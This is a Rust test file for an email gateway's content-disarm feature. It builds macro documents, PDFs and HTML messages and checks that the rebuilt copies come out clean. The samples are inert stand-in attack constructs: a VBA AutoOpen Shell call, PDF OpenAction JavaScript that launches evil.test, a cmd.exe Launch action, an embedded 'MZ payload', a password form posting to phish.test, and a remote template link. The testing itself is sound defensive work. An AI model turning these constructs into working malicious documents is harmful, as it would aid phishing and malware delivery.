//! Content disarm end to end over whole messages: documents built here, disarmed, and the
//! rebuilt message read back as a mail reader and an office suite would.

#![allow(clippy::unwrap_used, clippy::expect_used)] // A test: a panic is a failing test.

use base64::Engine;
use lopdf::{Document, Object, dictionary};
use mail_parser::{MessageParser, MimeHeaders};
use mailward_filter::cdr::{self, DisarmSettings, Disarmed};
use mailward_filter::mime::{self, MimeLimits};
use mailward_filter::{Action, Check};
use std::io::{Cursor, Read, Write};
use std::process::Command;
use zip::write::SimpleFileOptions;

fn disarm(raw: &[u8]) -> Option<Disarmed> {
    let message = mime::parse(raw).expect("test message parses");
    let walk = mime::walk(&message, raw, &MimeLimits::default());
    cdr::disarm(raw, &walk, &DisarmSettings::default())
}

fn b64(data: &[u8]) -> String {
    let s = base64::engine::general_purpose::STANDARD.encode(data);
    s.as_bytes()
        .chunks(76)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join("\r\n")
}

/// A message with a text body and one base64 attachment.
fn with_attachment(name: &str, ctype: &str, data: &[u8]) -> Vec<u8> {
    format!(
        "From: a@example.org\r\nTo: b@example.net\r\nSubject: the report\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n\
--outer\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nHere it is.\r\n\
--outer\r\nContent-Type: {ctype}; name=\"{name}\"\r\n\
Content-Disposition: attachment; filename=\"{name}\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--outer--\r\n",
        b64(data)
    )
    .into_bytes()
}

const DOCM_TYPE: &str = "application/vnd.ms-word.document.macroEnabled.12";

/// A minimal macro-enabled Word document (ECMA-376 Part 2 package with a VBA project).
fn docm() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let files: &[(&str, &[u8])] = &[
        (
            "[Content_Types].xml",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#,
        ),
        (
            "word/document.xml",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p></w:body></w:document>"#,
        ),
        (
            "word/_rels/document.xml.rels",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>"#,
        ),
        (
            "word/styles.xml",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#,
        ),
        ("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 Sub AutoOpen() Shell \"calc\""),
        (
            "word/_rels/vbaProject.bin.rels",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>"#,
        ),
        (
            "word/vbaData.xml",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>"#,
        ),
    ];
    for (name, data) in files {
        zip.start_file(*name, opts).unwrap();
        zip.write_all(data).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn zip_entries(data: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(data)).unwrap();
    (0..archive.len())
        .map(|i| {
            let mut f = archive.by_index(i).unwrap();
            let mut buf = Vec::new();
            f.read_to_end(&mut buf).unwrap();
            (f.name().to_owned(), buf)
        })
        .collect()
}

/// The attachment of the rebuilt message: (file name, content type, decoded body).
fn attachments(raw: &[u8]) -> Vec<(Option<String>, String, Vec<u8>)> {
    let message = MessageParser::default()
        .parse(raw)
        .expect("rebuilt message parses");
    message
        .attachments()
        .map(|p| {
            let ct = p
                .content_type()
                .map(|c| format!("{}/{}", c.ctype(), c.subtype().unwrap_or("")))
                .unwrap_or_default();
            (
                p.attachment_name().map(str::to_owned),
                ct,
                p.contents().to_vec(),
            )
        })
        .collect()
}

fn note_text(raw: &[u8]) -> String {
    let message = MessageParser::default().parse(raw).unwrap();
    let last = message.parts.last().unwrap();
    String::from_utf8_lossy(last.contents()).into_owned()
}

#[test]
fn a_docm_arrives_as_a_macro_free_docx_that_is_still_a_valid_package() {
    let raw = with_attachment("report.docm", DOCM_TYPE, &docm());
    let out = disarm(&raw).expect("the macros are found");
    assert_eq!(out.findings.len(), 1);
    let f = &out.findings[0];
    assert_eq!(
        (f.check, f.action, f.code.as_str()),
        (Check::Disarm, Action::Modify, "vba_macro")
    );
    assert_eq!(
        f.detail,
        "report.docm: VBA macros (the document is now report.docx)"
    );

    let files = attachments(&out.message);
    let (name, ctype, body) = files
        .iter()
        .find(|(n, _, _)| n.as_deref() != Some("noname"))
        .expect("the document is still attached");
    assert_eq!(name.as_deref(), Some("report.docx"));
    assert_eq!(
        ctype,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    );
    let entries = zip_entries(body);
    let names: Vec<&str> = entries.iter().map(|(n, _)| n.as_str()).collect();
    assert!(
        !names.iter().any(|n| n.to_ascii_lowercase().contains("vba")),
        "{names:?}"
    );
    let text = |name: &str| {
        let (_, data) = entries.iter().find(|(n, _)| n == name).unwrap();
        String::from_utf8(data.clone()).unwrap()
    };
    let types = text("[Content_Types].xml");
    assert!(
        !types.contains("macroEnabled") && !types.contains("vba"),
        "{types}"
    );
    assert!(types.contains(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    ));
    assert!(text("word/document.xml").contains("Quarterly figures"));
    // Every relationship target exists (OPC §9.3) and every part has a content type.
    for (rels, src_dir) in [
        ("_rels/.rels", ""),
        ("word/_rels/document.xml.rels", "word/"),
    ] {
        let xml = text(rels);
        assert!(!xml.contains("vbaProject"));
        for target in xml.split("Target=\"").skip(1) {
            let target = target.split('"').next().unwrap();
            let full = format!("{src_dir}{target}");
            assert!(
                names.contains(&full.as_str()),
                "{full} missing from {names:?}"
            );
        }
    }
    for name in &names {
        let ext = name.rsplit('.').next().unwrap();
        assert!(
            types.contains(&format!("PartName=\"/{name}\""))
                || types.contains(&format!("Extension=\"{ext}\"")),
            "{name} has no content type"
        );
    }
    // A real ZIP reader tests every entry (CRCs, sizes) of the rewritten package.
    if have("7z") {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("report.docx");
        std::fs::write(&path, body).unwrap();
        let test = Command::new("7z").arg("t").arg(&path).output().unwrap();
        assert!(
            test.status.success(),
            "7z t: {}",
            String::from_utf8_lossy(&test.stdout)
        );
    }
    // The note says what was removed, as the last part.
    let note = note_text(&out.message);
    assert!(
        note.contains("mailward removed from this message:"),
        "{note}"
    );
    assert!(note.contains("report.docm: VBA macros (the document is now report.docx)"));
    // The rest of the message is as it came: header and first part byte for byte.
    let first_part_end = memchr::memmem::find(&raw, b"Here it is.\r\n").unwrap() + 13;
    assert_eq!(&out.message[..first_part_end], &raw[..first_part_end]);
    assert!(out.message.ends_with(b"--outer--\r\n"));
}

fn pdf_with_javascript() -> Vec<u8> {
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let js = doc.add_object(dictionary! {
        "S" => "JavaScript",
        "JS" => Object::string_literal("app.launchURL('https://evil.test/')"),
    });
    let launch = doc.add_object(dictionary! {
        "S" => "Launch",
        "F" => Object::string_literal("cmd.exe"),
    });
    let annot = doc.add_object(dictionary! {
        "Type" => "Annot",
        "Subtype" => "Link",
        "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
        "A" => launch,
    });
    let page_id = doc.add_object(dictionary! {
        "Type" => "Page",
        "Parent" => pages_id,
        "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
        "Annots" => vec![
            annot.into(),
            // A file attachment annotation written in place (ISO 32000-1 §12.5.6.15).
            Object::Dictionary(dictionary! {
                "Type" => "Annot",
                "Subtype" => "FileAttachment",
                "Rect" => vec![0.into(), 0.into(), 5.into(), 5.into()],
                "FS" => Object::string_literal("dropper.exe"),
            }),
        ],
        "AA" => dictionary! { "O" => js },
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages",
            "Kids" => vec![page_id.into()],
            "Count" => 1,
        }),
    );
    let embedded = doc.add_object(lopdf::Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        b"MZ payload".to_vec(),
    ));
    let names = dictionary! {
        "JavaScript" => dictionary! { "Names" => vec![Object::string_literal("a"), js.into()] },
        "EmbeddedFiles" => dictionary! { "Names" => vec![
            Object::string_literal("x.exe"),
            Object::Dictionary(dictionary! { "Type" => "Filespec", "F" => Object::string_literal("x.exe"),
                "EF" => dictionary! { "F" => embedded } }),
        ] },
    };
    let catalog = doc.add_object(dictionary! {
        "Type" => "Catalog",
        "Pages" => pages_id,
        "OpenAction" => js,
        "Names" => names,
        "AcroForm" => dictionary! { "Fields" => vec![], "XFA" => Object::string_literal("<xdp/>") },
    });
    doc.trailer.set("Root", catalog);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

#[test]
fn a_pdf_with_open_action_javascript_arrives_without_it_and_still_parses() {
    let raw = with_attachment("invoice.pdf", "application/pdf", &pdf_with_javascript());
    let out = disarm(&raw).expect("the JavaScript is found");
    assert_eq!(out.findings.len(), 1, "{:?}", out.findings);
    let f = &out.findings[0];
    assert_eq!(
        (f.action, f.code.as_str()),
        (Action::Modify, "pdf_active_content")
    );
    for word in [
        "JavaScript",
        "OpenAction",
        "embedded files",
        "XFA",
        "Launch",
        "file attachments",
    ] {
        assert!(f.detail.contains(word), "{word} not named in {}", f.detail);
    }
    let files = attachments(&out.message);
    let (name, ctype, pdf) = &files[0];
    assert_eq!(name.as_deref(), Some("invoice.pdf"));
    assert_eq!(ctype, "application/pdf");
    for gone in [
        &b"JavaScript"[..],
        b"/JS",
        b"OpenAction",
        b"/AA",
        b"/Launch",
        b"EmbeddedFile",
        b"MZ payload",
        b"/XFA",
        b"evil.test",
        b"FileAttachment",
        b"dropper.exe",
    ] {
        assert!(
            memchr::memmem::find(pdf, gone).is_none(),
            "{} left",
            String::from_utf8_lossy(gone)
        );
    }
    let doc = Document::load_mem(pdf).expect("lopdf reads the disarmed PDF");
    assert_eq!(doc.get_pages().len(), 1);

    if Command::new("qpdf").arg("--version").output().is_err() {
        eprintln!("skipping: qpdf not installed");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("disarmed.pdf");
    std::fs::write(&path, pdf).unwrap();
    let check = Command::new("qpdf")
        .arg("--check")
        .arg(&path)
        .output()
        .unwrap();
    // qpdf exits 0 when clean, 3 for warnings only (recovered); 2 is an error.
    assert_eq!(
        check.status.code(),
        Some(0),
        "qpdf --check: {}{}",
        String::from_utf8_lossy(&check.stdout),
        String::from_utf8_lossy(&check.stderr)
    );
}

#[test]
fn an_html_body_loses_scripts_handlers_forms_and_remote_images_but_keeps_its_links() {
    let raw = b"From: a@example.org\r\nTo: b@example.net\r\nSubject: offer\r\n\
MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><body onload=\"steal()\"><script>steal()</script>\r\n\
<p>Read <a href=\"https://example.org/terms\">our terms</a> today.</p>\r\n\
<form action=\"https://phish.test/\"><input name=\"password\" type=\"password\"></form>\r\n\
<img src=\"https://tracker.test/pixel.gif\"></body></html>\r\n";
    let out = disarm(raw).expect("active content found");
    assert_eq!(out.findings.len(), 1);
    assert_eq!(out.findings[0].code, "html_active_content");
    let message = MessageParser::default().parse(&out.message).unwrap();
    // The message keeps its own fields; it is now multipart/mixed with the note.
    assert_eq!(message.subject(), Some("offer"));
    let ct = message.content_type().unwrap();
    assert_eq!((ct.ctype(), ct.subtype()), ("multipart", Some("mixed")));
    let html = message
        .body_html(0)
        .expect("still an HTML body")
        .into_owned();
    for gone in [
        "script",
        "steal",
        "onload",
        "form",
        "password",
        "tracker.test",
    ] {
        assert!(!html.contains(gone), "{gone} left in {html}");
    }
    assert!(
        html.contains("<a href=\"https://example.org/terms\""),
        "{html}"
    );
    assert!(html.contains("our terms"));
    assert!(note_text(&out.message).contains("part 1 (text/html): scripts, event handlers"));
}

#[test]
fn a_message_that_needs_nothing_is_left_byte_for_byte() {
    let mut docx = Vec::new();
    {
        // The same package without its VBA project: an ordinary .docx.
        let mut zip = zip::ZipWriter::new(Cursor::new(&mut docx));
        let opts = SimpleFileOptions::default();
        for (name, data) in zip_entries(&docm()) {
            if name.contains("vba")
                || name.contains("Content_Types")
                || name.contains("document.xml.rels")
            {
                continue;
            }
            zip.start_file(name, opts).unwrap();
            zip.write_all(&data).unwrap();
        }
        zip.start_file("[Content_Types].xml", opts).unwrap();
        zip.write_all(br#"<Types><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>"#).unwrap();
        zip.finish().unwrap();
    }
    let mut clean_pdf = Vec::new();
    {
        let mut doc = Document::with_version("1.5");
        let pages = doc.new_object_id();
        doc.objects.insert(
            pages,
            Object::Dictionary(dictionary! { "Type" => "Pages", "Kids" => vec![], "Count" => 0 }),
        );
        let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages });
        doc.trailer.set("Root", catalog);
        doc.save_to(&mut clean_pdf).unwrap();
    }
    let raw = format!(
        "From: a@example.org\r\nTo: b@example.net\r\nSubject: plain\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
Content-Type: multipart/alternative; boundary=\"c\"\r\n\r\n--c\r\n\
Content-Type: text/plain\r\n\r\nHello\r\n--c\r\nContent-Type: text/html\r\n\r\n\
<p style=\"color: blue\">Hello <a href=\"https://example.org/\">you</a><img src=\"cid:logo\"></p>\r\n--c--\r\n\
--b\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n\
Content-Disposition: attachment; filename=\"a.docx\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"b.pdf\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
        b64(&docx),
        b64(&clean_pdf)
    );
    assert!(disarm(raw.as_bytes()).is_none());
}

#[test]
fn a_corrupt_docm_is_held_as_undisarmable() {
    let mut doc = docm();
    doc.truncate(doc.len() / 2);
    let raw = with_attachment("report.docm", DOCM_TYPE, &doc);
    let out = disarm(&raw).expect("the part needs a decision");
    assert_eq!(out.findings.len(), 1);
    let f = &out.findings[0];
    assert_eq!(
        (f.action, f.code.as_str()),
        (Action::Quarantine, "undisarmable")
    );
    assert!(
        f.detail.starts_with("report.docm: could not be disarmed"),
        "{}",
        f.detail
    );
    // Nothing to rebuild: the message is as it came (the gateway holds it).
    assert_eq!(out.message, raw);
}

#[test]
fn a_word_97_document_loses_its_macros_storage() {
    let mut cfb = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    cfb.create_stream("/WordDocument")
        .unwrap()
        .write_all(b"document text")
        .unwrap();
    cfb.create_storage_all("/Macros/VBA").unwrap();
    cfb.create_stream("/Macros/VBA/ThisDocument")
        .unwrap()
        .write_all(b"Attribute VB_Name = \"ThisDocument\" Sub AutoOpen()")
        .unwrap();
    cfb.flush().unwrap();
    let doc = cfb.into_inner().into_inner();
    let raw = with_attachment("memo.doc", "application/msword", &doc);
    let out = disarm(&raw).expect("the macros are found");
    assert_eq!(out.findings[0].code, "vba_macro");
    assert_eq!(out.findings[0].detail, "memo.doc: VBA macros");
    let files = attachments(&out.message);
    let (name, _, body) = &files[0];
    assert_eq!(name.as_deref(), Some("memo.doc"));
    let cfb = cfb::CompoundFile::open(Cursor::new(body.clone())).unwrap();
    assert!(cfb.exists("/WordDocument"));
    assert!(!cfb.exists("/Macros"));
    assert!(memchr::memmem::find(body, b"AutoOpen").is_none());
}

#[test]
fn an_oversized_pdf_is_held_not_processed() {
    let raw = with_attachment("big.pdf", "application/pdf", &pdf_with_javascript());
    let message = mime::parse(&raw).unwrap();
    let walk = mime::walk(&message, &raw, &MimeLimits::default());
    let settings = DisarmSettings {
        max_pdf_bytes: 100,
        ..DisarmSettings::default()
    };
    let out = cdr::disarm(&raw, &walk, &settings).expect("held");
    assert_eq!(out.findings[0].action, Action::Quarantine);
    assert_eq!(out.findings[0].code, "undisarmable");
    assert!(out.findings[0].detail.contains("larger than 100 bytes"));
}

/// A package from (name, content) pairs.
fn package(files: &[(&str, &str)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in files {
        zip.start_file(*name, opts).unwrap();
        zip.write_all(data.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

#[test]
fn activex_controls_leave_a_workbook_with_their_references() {
    let sheet_rels = format!(
        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/drawing" Target="../drawings/drawing1.xml"/><Relationship Id="rId2" Type="{REL}/control" Target="../activeX/activeX1.xml"/></Relationships>"#
    );
    let xlsx = package(&[
        (
            "[Content_Types].xml",
            r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            &format!(
                r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
            ),
        ),
        ("xl/workbook.xml", "<workbook/>"),
        (
            "xl/_rels/workbook.xml.rels",
            &format!(
                r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            r#"<worksheet xmlns:r="x"><sheetData/><drawing r:id="rId1"/><controls><control shapeId="1025" r:id="rId2" name="CommandButton1"/></controls></worksheet>"#,
        ),
        ("xl/worksheets/_rels/sheet1.xml.rels", &sheet_rels),
        ("xl/drawings/drawing1.xml", "<xdr:wsDr/>"),
        ("xl/activeX/activeX1.xml", "<ax:ocx/>"),
        (
            "xl/activeX/_rels/activeX1.xml.rels",
            r#"<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>"#,
        ),
        ("xl/activeX/activeX1.bin", "control binary"),
    ]);
    let raw = with_attachment(
        "figures.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        &xlsx,
    );
    let out = disarm(&raw).expect("the control is found");
    assert_eq!(out.findings[0].code, "activex");
    assert_eq!(out.findings[0].detail, "figures.xlsx: ActiveX controls");
    let files = attachments(&out.message);
    let (name, _, body) = &files[0];
    assert_eq!(name.as_deref(), Some("figures.xlsx"));
    let entries = zip_entries(body);
    let names: Vec<&str> = entries.iter().map(|(n, _)| n.as_str()).collect();
    assert!(!names.iter().any(|n| n.contains("activeX")), "{names:?}");
    let text = |name: &str| {
        let (_, data) = entries.iter().find(|(n, _)| n == name).unwrap();
        String::from_utf8(data.clone()).unwrap()
    };
    let sheet = text("xl/worksheets/sheet1.xml");
    assert_eq!(
        sheet,
        r#"<worksheet xmlns:r="x"><sheetData/><drawing r:id="rId1"/></worksheet>"#
    );
    let rels = text("xl/worksheets/_rels/sheet1.xml.rels");
    assert!(
        rels.contains("drawing1.xml") && !rels.contains("activeX"),
        "{rels}"
    );
    assert!(!text("[Content_Types].xml").contains("activeX"));
}

#[test]
fn a_remote_template_link_is_dropped() {
    let docx = package(&[
        (
            "[Content_Types].xml",
            r#"<Types><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            &format!(
                r#"<Relationships><Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>"#
            ),
        ),
        ("word/document.xml", "<w:document/>"),
        (
            "word/settings.xml",
            r#"<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>"#,
        ),
        (
            "word/_rels/settings.xml.rels",
            &format!(
                r#"<Relationships><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>"#
            ),
        ),
    ]);
    let raw = with_attachment(
        "letter.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        &docx,
    );
    let out = disarm(&raw).expect("the remote template is found");
    assert_eq!(out.findings[0].code, "activex");
    assert_eq!(
        out.findings[0].detail,
        "letter.docx: links to external objects"
    );
    let files = attachments(&out.message);
    let entries = zip_entries(&files[0].2);
    let (_, rels) = entries
        .iter()
        .find(|(n, _)| n == "word/_rels/settings.xml.rels")
        .unwrap();
    assert!(memchr::memmem::find(rels, b"evil.test").is_none());
    let (_, settings) = entries
        .iter()
        .find(|(n, _)| n == "word/settings.xml")
        .unwrap();
    assert_eq!(settings, b"<w:settings></w:settings>");
}

#[test]
fn an_html_part_of_a_forwarded_message_is_disarmed_in_place() {
    let raw = b"From: a@example.org\n\
Subject: fwd\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"o\"\n\n\
--o\nContent-Type: text/plain\n\nsee below\n\
--o\nContent-Type: message/rfc822\n\n\
From: c@example.com\nSubject: inner\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=\"i\"\n\n\
--i\nContent-Type: text/plain\n\ninner text\n\
--i\nContent-Type: text/html\n\n<p>Hi</p><script>x()</script>\n\
--i--\n\
--o--\n";
    let out = disarm(raw).expect("the inner script is found");
    assert_eq!(out.findings[0].detail, "part 2.2 (text/html): scripts");
    let text = String::from_utf8(out.message.clone()).unwrap();
    // Line ends stay LF, the forwarded message keeps its own header, the note is last.
    assert!(!text.contains('\r'));
    assert!(text.contains("From: c@example.com\nSubject: inner\n"));
    assert!(!text.contains("<script>"));
    let message = MessageParser::default().parse(&out.message).unwrap();
    let inner = message.parts.iter().find_map(|p| p.message()).unwrap();
    let html = inner.body_html(0).unwrap();
    assert_eq!(html.trim(), "<p>Hi</p>");
    assert!(note_text(&out.message).contains("part 2.2 (text/html): scripts"));
    let before = memchr::memmem::find(raw, b"--i\nContent-Type: text/html").unwrap() + 4;
    assert_eq!(&out.message[..before], &raw[..before]);
}

#[test]
fn a_macro_document_inside_an_encoded_forwarded_message_is_held() {
    let inner = with_attachment("report.docm", DOCM_TYPE, &docm());
    let raw = format!(
        "From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"z\"\r\n\r\n\
--z\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--z--\r\n",
        b64(&inner)
    );
    let out = disarm(raw.as_bytes()).expect("the macros are found");
    assert_eq!(out.findings.len(), 1, "{:?}", out.findings);
    assert_eq!(out.findings[0].action, Action::Quarantine);
    assert_eq!(out.findings[0].code, "undisarmable");
}

fn have(program: &str) -> bool {
    let found = Command::new(program).arg("--version").output().is_ok();
    if !found {
        eprintln!("skipping: {program} not installed");
    }
    found
}

/// Every object of a PDF as qpdf writes it uncompressed (`--qdf`, object streams undone).
fn qpdf_plain(pdf: &[u8]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let (input, output) = (dir.path().join("in.pdf"), dir.path().join("out.pdf"));
    std::fs::write(&input, pdf).unwrap();
    let status = Command::new("qpdf")
        .args(["--qdf", "--object-streams=disable"])
        .arg(&input)
        .arg(&output)
        .status()
        .unwrap();
    assert!(matches!(status.code(), Some(0 | 3)), "qpdf --qdf: {status}");
    std::fs::read(&output).unwrap()
}

#[test]
fn javascript_hidden_in_compressed_object_streams_is_removed_too() {
    if !have("qpdf") {
        return;
    }
    // qpdf packs the objects into compressed object streams (ISO 32000-1 §7.5.7), as most
    // PDF writers do: the action dictionaries are not visible in the raw bytes.
    let dir = tempfile::tempdir().unwrap();
    let (plain, packed) = (dir.path().join("plain.pdf"), dir.path().join("packed.pdf"));
    std::fs::write(&plain, pdf_with_javascript()).unwrap();
    let status = Command::new("qpdf")
        .args(["--object-streams=generate", "--compress-streams=y"])
        .arg(&plain)
        .arg(&packed)
        .status()
        .unwrap();
    assert!(matches!(status.code(), Some(0 | 3)));
    let packed = std::fs::read(&packed).unwrap();
    assert!(memchr::memmem::find(&packed, b"/ObjStm").is_some());
    assert!(memchr::memmem::find(&packed, b"JavaScript").is_none());

    let raw = with_attachment("packed.pdf", "application/pdf", &packed);
    let out = disarm(&raw).expect("the JavaScript is found in the object streams");
    assert_eq!(out.findings[0].code, "pdf_active_content");
    let (_, _, pdf) = attachments(&out.message).remove(0);
    let expanded = qpdf_plain(&pdf);
    for gone in [
        &b"JavaScript"[..],
        b"/JS",
        b"OpenAction",
        b"/Launch",
        b"MZ payload",
    ] {
        assert!(
            memchr::memmem::find(&expanded, gone).is_none(),
            "{} left",
            String::from_utf8_lossy(gone)
        );
    }
    assert!(memchr::memmem::find(&expanded, b"/Type /Page").is_some());
    let path = dir.path().join("disarmed.pdf");
    std::fs::write(&path, &pdf).unwrap();
    let check = Command::new("qpdf")
        .arg("--check")
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(check.status.code(), Some(0), "qpdf --check");
}

/// Real files of Debian's clamav-testfiles: a PDF with an embedded program and a broken
/// cross-reference table lopdf cannot read (held), and OLE documents (no panic, no change
/// when they carry no VBA project).
#[test]
fn clamav_test_files_are_held_or_left_never_mangled() {
    let dir = std::path::Path::new("/usr/share/clamav-testfiles");
    if !dir.is_dir() {
        eprintln!("skipping: clamav-testfiles not installed");
        return;
    }
    let pdf = std::fs::read(dir.join("clam.pdf")).unwrap();
    let out = disarm(&with_attachment("clam.pdf", "application/pdf", &pdf)).expect("held");
    assert_eq!(
        (out.findings[0].action, out.findings[0].code.as_str()),
        (Action::Quarantine, "undisarmable")
    );
    for (name, ctype) in [
        ("clam.ole.doc", "application/msword"),
        ("clam.ppt", "application/vnd.ms-powerpoint"),
        ("clam.exe.html", "text/html"),
    ] {
        let data = std::fs::read(dir.join(name)).unwrap();
        let raw = with_attachment(name, ctype, &data);
        if let Some(out) = disarm(&raw) {
            assert!(MessageParser::default().parse(&out.message).is_some());
        }
    }
}

/// Through the gateway's pipeline (the block list and spam score off, so only the disarm
/// decides): a document with macros is delivered modified with `X-Mailward-Disarmed`, a
/// clean message is queued as it came.
#[tokio::test]
async fn the_gateway_delivers_the_disarmed_message_and_says_so() {
    use mailward_filter::quarantine::Quarantine;
    use mailward_filter::{Context, Gateway, GatewaySettings};
    let dir = tempfile::tempdir().unwrap();
    let mut settings = GatewaySettings::default();
    settings.attachments.enabled = false;
    settings.spam.enabled = false;
    let gateway = Gateway::new(settings, None, Quarantine::open(dir.path()).unwrap());
    let rcpts = vec!["b@example.net".to_owned()];
    let ctx = Context {
        queue_id: "Q1",
        client_ip: "192.0.2.1".parse().unwrap(),
        helo: "mx.example.org",
        mail_from: "a@example.org",
        rcpts: &rcpts,
        auth_user: None,
        auth: None,
    };
    let scope = mailward_event::Scope::message("Q1");

    let raw = with_attachment("report.docm", DOCM_TYPE, &docm());
    let inspection = gateway.inspect(&ctx, &raw, &scope).await;
    assert_eq!(inspection.verdict.action, Action::Modify);
    let fields = inspection.fields.replace("\r\n\t", " ");
    assert!(
        fields.contains(
            "X-Mailward-Disarmed: report.docm: VBA macros (the document is now report.docx)"
        ),
        "{fields}"
    );
    let delivered = inspection.message.expect("the disarmed message is queued");
    let files = attachments(&delivered);
    assert!(
        files
            .iter()
            .any(|(n, _, _)| n.as_deref() == Some("report.docx"))
    );

    let clean = b"From: a@example.org\r\nTo: b@example.net\r\nSubject: hi\r\n\
